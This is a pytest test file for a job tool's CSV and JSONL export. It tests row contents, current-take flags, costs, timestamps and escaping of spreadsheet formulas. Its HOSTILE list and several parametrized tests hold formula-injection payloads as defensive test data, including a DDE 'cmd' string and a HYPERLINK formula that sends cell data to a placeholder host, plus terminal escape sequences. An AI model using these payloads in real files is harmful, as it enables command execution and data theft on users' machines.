"""`export`: what each row tells other programs, and that a spreadsheet leaves it as it is."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import math
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from batchgen.cli.export_rows import EXPORT_FIELDS, IDENTIFIERS, csv_lines, json_lines, spreadsheet_cell
from batchgen.models import Record, State
from batchgen.storage import clips
from tests.support.pictures import make_png
from tests.support.program import Desk, sandbox
from tests.support.terminal import on_a_terminal
from tests.wire.test_job_names import ACCEPTED, DONE, FAILED, REFUSED, record, retry, with_rows

QUICK = ("--poll-interval", "0.05", "--timeout", "2", "--settle", "1")


def asked(row: Record, **request: Any) -> Record:
    return row._replace(canonical=json.dumps({"mode": "pro", "duration": "10", "sound": "on", **request}))


def test_a_row_has_what_was_asked_for(tmp_path: Path) -> None:
    picture = make_png(seed=1)
    desk = Desk(tmp_path)
    desk.write("a.png", picture)
    shots = [
        {"index": 1, "prompt": "First", "duration": "2"},
        {"index": 2, "prompt": "Then", "duration": "3"},
    ]
    jobs: list[dict[str, Any]] = [
        {"id": "file", "image": "a.png", "prompt": "=A prompt", "mode": "pro", "duration": 10, "sound": "on"},
        {"id": "url", "image": "https://example.com/1.png"},
        {
            "id": "shots",
            "image": "a.png",
            "multi_shot": True,
            "shot_type": "customize",
            "multi_prompt": shots,
        },
    ]
    desk.write("m.yaml", json.dumps({"version": 1, "defaults": {"model_name": "kling-v3"}, "jobs": jobs}))
    with sandbox(tmp_path, "--task-seconds", "0.05-0.1") as server:
        assert desk.against(server).run("run", *QUICK, "m.yaml").code == 0
    found = {row["job_id"]: row for row in desk.export()}
    digest = hashlib.sha256(picture).hexdigest()
    names = ("prompt", "image", "image_sha256", "mode", "duration", "sound", "current")
    assert {name: tuple(row[field] for field in names) for name, row in found.items()} == {
        "file": ("=A prompt", str(tmp_path / "a.png"), digest, "pro", "10", "on", True),
        "url": (None, "https://example.com/1.png", None, "std", "5", "off", True),
        "shots": ("First\nThen", str(tmp_path / "a.png"), digest, "std", "5", "off", True),
    }


def test_the_row_whose_clip_is_the_jobs_now_is_told(tmp_path: Path) -> None:
    tote, mug = record("m", "tote"), record("m", "mug", "old")
    hat, cap = record("m", "hat", "hat"), record("m", "superseded/cap", "cap")
    desk = with_rows(
        tmp_path,
        (tote, FAILED),
        (retry(tote, 2), DONE),
        (record("m", "tote", "take2", take=2), ACCEPTED),
        (mug, DONE),
        (record("m", "mug", "new", digest="e"), DONE),
        (record("m", "mug", "newest", digest="f"), REFUSED),
        (hat, DONE),
        (record("m", "hat", "beside", digest="e")._replace(output_path="/clips/m/superseded/hat.mp4"), DONE),
        (cap._replace(output_path="/clips/m/superseded/cap.mp4"), DONE),
    )
    current = [row["external_task_id"] for row in desk.export() if row["current"]]
    assert current == [f"{tote.external_task_id}~2", "take2", "new", "hat", "cap"]
    for name in ("old", "new"):
        (task,) = desk.run("status", "--json", name).json["tasks"]
        assert task["current"] == (name == "new")


@pytest.mark.parametrize("line", ["--json --format csv", "--json --excel", "--format jsonl --excel"])
def test_two_forms_at_once_are_refused(tmp_path: Path, line: str) -> None:
    desk = with_rows(tmp_path, (record("m", "tote"), DONE))
    result = desk.run("export", *line.split())
    assert result.code == 2
    assert "leave" in result.err
    assert ("error" in result.json) if "--json" in line else (result.out == "")


ODD = {
    "job_id": "1795878424558000013",
    "manifest": "mar-1",
    "prompt": '-1+1 "and" 猫,\n;=2+2',
}


SHOWN = ODD["prompt"].replace(";=", ";'=")  # where `;` parts cells, another one begins there


def odd_desk(folder: Path) -> Desk:
    row = asked(record(ODD["manifest"], ODD["job_id"], "@id", digest="1"), prompt=ODD["prompt"], image="=1")
    return with_rows(
        folder, (row, FAILED), (record("m", "x", "007"), DONE), (record("m", 'say "y"', "00"), REFUSED)
    )


def test_csv_for_a_spreadsheet_comes_back_as_it_was(tmp_path: Path) -> None:
    desk = odd_desk(tmp_path)
    plain = [
        {name: "" if value is None else str(value) for name, value in row.items()} for row in desk.export()
    ]
    text = desk.run("export", "--excel").out
    assert text == desk.run("export", "--format", "csv", "--excel").out
    assert text.startswith('\ufeff"external_task_id","task_id"')
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert rows[0]["job_id"] == '="1795878424558000013"'  # a text for Excel and LibreOffice
    assert rows[0]["external_task_id"] == "'@id"
    assert rows[0]["prompt"] == f"'{SHOWN}"
    assert rows[1]["external_task_id"] == '="007"'
    assert rows[2]["job_id"] == '="say ""y"""'
    for before, after in zip(plain, rows, strict=True):
        assert not [
            value
            for value in after.values()
            if value[:1] in set("+-@\t\r\n") or (value.startswith("=") and value[:2] != '="')
        ]
        read = {
            name: value[2:-1].replace('""', '"') if value.startswith('="') else value.removeprefix("'")
            for name, value in after.items()
        }
        shown = {name: value.replace(";=", ";'=") for name, value in before.items()}
        assert read == {**shown, "current": before["current"].lower()}


def test_csv_for_scripts_is_not_touched_by_what_spreadsheets_need(tmp_path: Path) -> None:
    text = odd_desk(tmp_path).run("export", "--format", "csv").out
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert text.startswith("external_task_id,task_id,state,") and "\r" not in text
    assert tuple(rows[0]) == EXPORT_FIELDS
    assert (rows[0]["job_id"], rows[0]["prompt"]) == (ODD["job_id"], ODD["prompt"])
    assert [row["current"] for row in rows] == ["false", "true", "false"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
@pytest.mark.parametrize("field", ["prompt", "job_id"])
def test_what_begins_like_a_formula_is_text(start: str, field: str) -> None:
    assert spreadsheet_cell(field, f"{start}1") == f"'{start}1"


HOSTILE = [
    *(
        "=2+3",
        "+2+3",
        "-2+3",
        "@SUM(2,3)",
        "\t=2+3",
        "\r=2+3",
        "\n=2+3",
        " =2+3",
        "x;=2+3;y",
        'x;"=2+3";',
        "x\n=2+3",
    ),
    *(
        "x\t=2+3",
        'x",=2+3,"',
        "x';=2+3",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://a.example?"&A1,"x")',
        "x|=2+3|",
    ),
]
TEXTS = [
    name
    for name in EXPORT_FIELDS
    if name not in ("state", "take", "attempt", "cost_usd_estimate", "charged_usd", "current")
    and not name.endswith(("_at", "_sha256"))
]


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_of_a_spreadsheet_is_a_formula_whatever_parts_its_cells(separator: str) -> None:
    """A double click in a country that writes 0,5 takes `;` for what parts the cells."""
    rows = [dict.fromkeys(EXPORT_FIELDS) | dict.fromkeys(TEXTS, text) for text in HOSTILE]
    text = "\r\n".join(csv_lines(rows, excel=True)).removeprefix("\ufeff")
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
        for cell in row:
            assert not cell.lstrip('"').startswith(tuple("=+-@")) or cell.startswith('="'), cell


def test_a_cell_of_nothing_but_separators_is_looked_at_once() -> None:
    assert spreadsheet_cell("prompt", "a" + 300_000 * "\t" + "=1") == "a" + 300_000 * "\t" + "'=1"
    assert spreadsheet_cell("prompt", "a" + 300_000 * "\t") == "a" + 300_000 * "\t"


def test_csv_on_a_terminal_moves_no_cursor(tmp_path: Path) -> None:
    odd = "\x1b]0;title\x07\x9b2J\u202e\u2028"
    desk = with_rows(tmp_path, (asked(record("m", "x", "e1"), prompt=odd, image="x"), FAILED))
    for options in (["--format", "csv"], ["--excel"], ["--format", "jsonl"], ["--json"]):
        command = [*desk.program, "export", *options]
        code, shown = on_a_terminal(command, cwd=desk.folder, env=desk.env)
        assert code == 0
        assert "title" in shown and not set(odd) - set("]0;title2J") & set(shown), options
    plain = desk.run("export", "--format", "csv").out
    assert odd in plain  # which is for programs, as it is


def test_only_text_is_changed_and_no_identifier_is_longer_than_a_formula_can_be() -> None:
    assert spreadsheet_cell("cost_usd_estimate", -0.5) == -0.5
    assert spreadsheet_cell("prompt", "12") == "12"
    assert spreadsheet_cell("job_id", "") == "" and spreadsheet_cell("task_id", None) is None
    assert spreadsheet_cell("job_id", "x" * 256) == "x" * 256
    assert spreadsheet_cell("job_id", "a\nb") == "a\nb"
    assert set(EXPORT_FIELDS) > IDENTIFIERS


def test_giving_up_what_was_refused_costs_nothing_and_what_is_unknown_may_have(tmp_path: Path) -> None:
    rows = [
        (record("m", name)._replace(estimate=500_000), states)
        for name, states in (("refused", REFUSED), ("unknown", (State.UNKNOWN,)), ("failed", FAILED))
    ]
    desk = with_rows(tmp_path, *rows)
    for name in ("refused", "unknown", "failed"):
        assert desk.run("resolve", name, "--abandon").code == 0
    assert [row["cost_usd_estimate"] for row in desk.export()] == [0.0, 0.5, 0.5]


@given(
    st.floats(-1e5, 1e5)
    | st.floats(0, 3e11)
    | st.integers(0, 10**12).map(lambda micros: 1.75e9 + micros / 1e6)
    | st.integers(-2, 260_000_000_000).map(lambda second: math.nextafter(float(second), -math.inf))
)
@example(0.0)
@example(253_402_300_799.5)
@example(math.nan)
@example(math.inf)
def test_times_are_written_as_python_itself_writes_them(seconds: float) -> None:
    try:
        text = datetime.fromtimestamp(seconds, UTC).isoformat("T", "milliseconds").replace("+00:00", "Z")
    except (ValueError, OverflowError, OSError):
        text = None
    assert clips.iso(seconds) == text


CELLS = (
    st.none()
    | st.booleans()
    | st.integers(-(2**63), 2**63 - 1)
    | st.text(st.sampled_from(',"\r\n\x7f\x85\u2028\\é猫 x\ud800'))
    | st.text()
)
AMOUNTS = st.none() | st.floats() | st.integers(-10, 10**15).map(lambda amount: amount / 1e6)


@given(CELLS, CELLS, CELLS, AMOUNTS)
@example("", None, None, None)
@example("a, b", "c", None, 0.56)
@example("a", "b, c", None, 0.56)
@example("half of a pair: \ud800", "", True, 0.0)
@example("x", "y", "z", 0.00056)
@example("x", "y", "z", 1e22)
def test_rows_are_written_as_the_standard_library_writes_them(
    one: object, two: object, three: object, amount: float | None
) -> None:
    money = {"cost_usd_estimate": amount, "charged_usd": amount}
    row = dict.fromkeys(EXPORT_FIELDS, one) | {"prompt": two, "image": three} | money
    written = io.StringIO(newline="")
    cells = [str(value).lower() if isinstance(value, bool) else value for value in row.values()]
    csv.writer(written, lineterminator="\n").writerow(cells)
    _, line = csv_lines([row])
    assert f"{line}\n" == written.getvalue()
    assert [*json_lines([row])] == [json.dumps(row, ensure_ascii=False)]
